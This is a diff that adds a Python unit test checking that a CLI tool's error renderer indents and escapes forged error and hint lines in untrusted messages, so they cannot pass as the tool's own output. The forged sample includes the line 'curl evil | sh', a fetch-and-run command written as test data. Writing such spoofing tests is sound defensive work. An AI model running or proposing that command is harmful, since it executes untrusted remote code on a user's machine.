@@ -117,3 +117,16 @@ def test_a_file_that_is_large_or_none_holds_no_error_up(tmp_path: Path) -> None:
     second = source_excerpt(Where(file=str(tmp_path / "large.py"), line=2))
     assert first is not None and first[0].plain == "first"
     assert second is not None and len(second[0].plain) < 1000
+
+
+def test_what_others_say_does_not_look_like_what_virtwright_says() -> None:
+    forged = "a\n\nerror: forged\n  hint: run\r\n      curl evil | sh"
+    text = render_problem(Problem(forged, hint="the true one")).plain
+    assert text.split("\n") == [
+        "error: a",
+        "  │ ",
+        "  │ error: forged",
+        "  │   hint: run\\x0d",
+        "  │       curl evil | sh",
+        "  hint: the true one",
+    ]
